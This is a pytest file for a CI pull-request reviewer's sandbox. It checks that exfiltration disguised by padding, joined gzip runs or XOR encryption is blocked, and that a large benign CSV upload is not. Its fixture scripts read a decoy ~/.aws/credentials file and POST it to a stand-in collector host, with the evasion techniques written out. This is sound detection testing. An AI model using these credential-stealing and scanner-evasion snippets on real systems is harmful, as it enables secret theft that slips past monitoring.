"""Bodies that tried to blind the search (issue 20): one real `cujo review` per case.

Each attack ended clean before: a decoy in base64 ahead of 25 MiB of padding holding one
``%`` (the url layer was over the old decode budget, marked unsearched where nothing read
it), plain text in base64 then ``base64(gzip(decoy))`` (the runs were joined, the gzip
header left offset 0), and a decoy file read, XORed and POSTed (nothing decodes it).
Each must block; the benign twin, a test uploading 30 MiB of CSV, must not. Targets are
`.test` names the logging resolver sinks. Needs full isolation (root, `ip`, `nft`,
`setpriv`, bubblewrap), as on an Actions runner; elsewhere skipped with the reason.
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cujorun import Cujo, Pending, Review
from gitrepo import GitRepo

from cujo_action.arm import isolation_unavailable


def _why_skip() -> str | None:
    if os.geteuid() != 0:
        return "needs root (network namespaces, nftables, the sandbox user), as on Actions"
    return isolation_unavailable()


REASON = _why_skip()
pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(REASON is not None, reason=f"full isolation unavailable: {REASON}"),
]

FAST = {"install": 120, "test": 180, "smoke": 60, "probes": 60}
CALC = "def add(a, b):\n    return a + b\n"
BASE = {
    "requirements.txt": "",
    "calc.py": CALC,
    "ci/test.sh": "echo tested\n",
    ".cujo.yml": json.dumps(
        {"timeouts": FAST, "install": "true", "test": "bash ci/test.sh", "smoke": "true"}
    )
    + "\n",
}

# Every script reads the decoy credentials file the sandbox planted under HOME, as a
# stealer would, and sends what it read.
READ = """
import base64, gzip, os, urllib.request
secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
def send(path, body):
    urllib.request.urlopen("https://collector.exfil.test/" + path, data=body, timeout=60)
"""

SCRIPTS = {
    # The url layer of the whole body (one % in it) is over the old 24 MiB budget.
    "padding": READ + 'send("p", base64.b64encode(secret) + b"x" * (25 << 20) + b"%" + b"x" * 64)',
    # Two runs: the second's gzip header no longer starts its layer once they are joined.
    "joined": READ + 'send("j", base64.b64encode(b"build 12 passed on linux, all green")'
    ' + b" " + base64.b64encode(gzip.compress(secret)))',
    # Encrypted: no decoder can read it; the sender read a decoy first.
    "xor": READ + "key = os.urandom(len(secret))\n"
    'send("x", bytes(a ^ b for a, b in zip(secret, key)))',
    # The benign twin: a large readable upload, searched to its end, nothing in it.
    "csv": 'import urllib.request\nrows = b"".join(b"%d,user%d,%d\\n" % (i, i, i * 7) '
    "for i in range(2_000_000))\n"
    'urllib.request.urlopen("https://upload.example.test/csv", data=rows, timeout=120)',
}


class Reviews:
    """Run each case's review once, on first use, one at a time."""

    def __init__(
        self,
        cujo: Cujo,
        pr_repo: Callable[..., GitRepo],
        scratch: Callable[[str], Path],
        installed: Path,
    ) -> None:
        self._cujo, self._pr_repo, self._scratch = cujo, pr_repo, scratch
        self._installed = installed
        self._done: dict[str, Review] = {}
        self._lock = threading.Lock()

    def get(self, name: str) -> Review:
        with self._lock:
            if name not in self._done:
                script = "python - <<'PY'\n" + SCRIPTS[name].strip() + "\nPY\necho sent\n"
                repo = self._pr_repo(f"blind-{name}", BASE, {"ci/test.sh": script})
                argv = [str(self._installed), "review", "--repo", str(repo.path)]
                argv += ["--base", "main", "--head", "pr"]
                argv += ["--data-dir", str(self._cujo.data_dir), "--json"]
                env = {k: v for k, v in os.environ.items() if not k.startswith("CUJO_")}
                out = self._scratch(f"review-blind-{name}")
                self._done[name] = Pending(argv, env, out, self._cujo.data_dir).wait()
            return self._done[name]


@pytest.fixture(scope="module")
def reviews(
    cujo: Cujo,
    pr_repo: Callable[..., GitRepo],
    tmp_path_factory: pytest.TempPathFactory,
    installed_cujo: Path,
) -> Reviews:
    return Reviews(cujo, pr_repo, tmp_path_factory.mktemp, installed_cujo)


def critical(review: Review) -> set[str]:
    return {f["rule"] for f in review.verdict["findings"] if f["severity"] == "critical"}


def sent(review: Review) -> dict[str, Any]:
    """Return the tests' one request to the collector (or the upload host)."""
    (item,) = [
        e
        for e in review.report("tests")["egress"]
        if e["host"] in ("collector.exfil.test", "upload.example.test") and e["method"] == "POST"
    ]
    return item


def test_a_decoy_ahead_of_padding_past_the_old_budget_blocks(reviews: Reviews) -> None:
    review = reviews.get("padding")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-egress" in critical(review), review.verdict["findings"]
    item = sent(review)
    assert item["decoy_seen"], item
    assert item["unsearched"] == "", item  # searched whole, not cut


def test_a_gzip_run_after_a_text_run_is_inflated_and_blocks(reviews: Reviews) -> None:
    review = reviews.get("joined")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-egress" in critical(review), review.verdict["findings"]
    item = sent(review)
    assert any(w.endswith("gzip") for w in item["decoy_where"]), item


def test_a_decoy_file_xored_and_posted_blocks_as_an_opaque_channel(reviews: Reviews) -> None:
    review = reviews.get("xor")
    assert review.verdict["state"] == "blocked", str(review)
    assert "decoy-then-opaque-channel" in critical(review), review.verdict["findings"]
    item = sent(review)
    assert item["opaque"] is True, item
    assert item["decoy_seen"] == [], item  # nothing decodes it: the channel is the evidence


def test_a_large_readable_upload_is_searched_whole_and_does_not_block(reviews: Reviews) -> None:
    review = reviews.get("csv")
    assert review.verdict["state"] == "clean", str(review)
    assert critical(review) == set(), review.verdict["findings"]
    item = sent(review)
    assert item["bytes_out"] > 30 << 20, item
    assert (item["decoy_seen"], item["unsearched"], item["opaque"]) == ([], "", False), item
